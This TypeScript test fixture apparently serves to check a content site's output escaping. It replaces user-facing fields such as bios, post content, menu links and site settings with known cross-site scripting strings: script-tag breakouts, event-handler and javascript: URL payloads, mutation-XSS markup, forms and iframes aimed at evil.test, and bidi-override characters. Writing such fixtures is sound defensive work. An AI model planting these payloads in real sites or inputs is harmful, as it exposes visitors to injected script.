import type { Store } from '../db/store';
import type { Stored, Table } from '../db/table';

const SCRIPT = '</script></title></textarea><script>alert("script")</script>';
const HANDLER = `"'><img src=x onerror=alert("handler")>\u2028<svg/onload=alert("svg")>`;
const SCRIPT_URL = "javascript:alert('url')";
const LONG_WORD = 'Pneumono'.repeat(15);
const OTHER_DIRECTION = 'שלום \u202eمرحبا\u202c عالم';
const UNSEEN = 'zero\u200bwidth\u200djoined\ufeff\u2060';

/** Known attack strings in one line of text. */
export const HOSTILE_TEXT = [SCRIPT, HANDLER, SCRIPT_URL, '${7*7}{{7*7}}', LONG_WORD, OTHER_DIRECTION, UNSEEN].join(
  ' ',
);

/** The same for fields that allow HTML: bold text is allowed, the rest must have no effect. */
export const HOSTILE_HTML = [
  '<p onclick="alert(1)" style="position:fixed;inset:0">Kept <b>words</b></p>',
  '<script>alert("html")</script><style>*{display:none}</style>',
  `<a href="${SCRIPT_URL}">code</a><a href="JaVaScRiPt&colon;alert(2)">code</a><a href="data:text/html,x">data</a>`,
  '<img src="x" onerror="alert(3)"><svg onload="alert(4)"></svg>',
  '<iframe src="//evil.test" srcdoc="<script>alert(6)</script>"></iframe><object data="//evil.test"></object><base href="//evil.test">',
  '<form action="//evil.test"><input name="password"><button formaction="javascript:alert(7)">Send</button></form>',
  `<p>${LONG_WORD} ${OTHER_DIRECTION} ${UNSEEN}</p>`,
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)>',
].join('');

/**
 * Replaces all user-provided texts with hostile ones. Ids, slugs, usernames and files stay, so that records can still
 * be found.
 */
export function makeHostile(store: Store): void {
  const text = HOSTILE_TEXT;
  store.atomically(() => {
    const elsewhere = {
      facebook: SCRIPT_URL,
      twitter: text,
      google: SCRIPT_URL,
      instagram: SCRIPT_URL,
      linkedin: text,
    };
    rewrite(store.performers, () => ({
      name: text,
      firstName: text,
      lastName: text,
      bio: text,
      welcomeVideoName: text,
      socialsLink: elsewhere,
    }));
    rewrite(store.users, () => ({ name: text, firstName: text, lastName: text }));
    rewrite(store.categories, () => ({ name: text, description: text }));
    rewrite(store.videos, () => ({ title: text, description: text, tags: [text, 'plain'] }));
    rewrite(store.galleries, () => ({ name: text, description: text }));
    rewrite(store.photos, () => ({ title: text, description: text }));
    rewrite(store.products, () => ({ name: text, description: text }));
    rewrite(store.posts, () => ({ title: text, shortDescription: text, content: HOSTILE_HTML, tags: [text] }));
    rewrite(store.stories, () => ({ title: text, text }));
    rewrite(store.events, () => ({ title: text, description: text }));
    rewrite(store.comments, () => ({ content: text }));
    rewrite(store.menus, () => ({ title: text, path: SCRIPT_URL, internal: false }));
    rewrite(store.banners, () => ({ title: text, description: text, link: SCRIPT_URL }));
    const hostileText = [
      'siteName',
      'homeTitle',
      'homeMetaDescription',
      'homeMetaKeywords',
      'metaDescription',
      'metaKeywords',
      'currencySymbol',
      'headerScript',
      'afterBodyScript',
      'gaCode',
    ];
    for (const key of hostileText) store.settings.update(key, { value: text });
    for (const key of ['footerContent', 'userBenefit', 'modelBenefit'])
      store.settings.update(key, { value: HOSTILE_HTML });
    for (const key of ['logoUrl', 'favicon', 'loginPlaceholderImage', 'ageGateLeaveUrl'])
      store.settings.update(key, { value: SCRIPT_URL });
  });
}

function rewrite<T extends Stored>(table: Table<T>, change: () => Partial<T>): void {
  for (const { _id } of table.list()) table.update(_id, change());
}
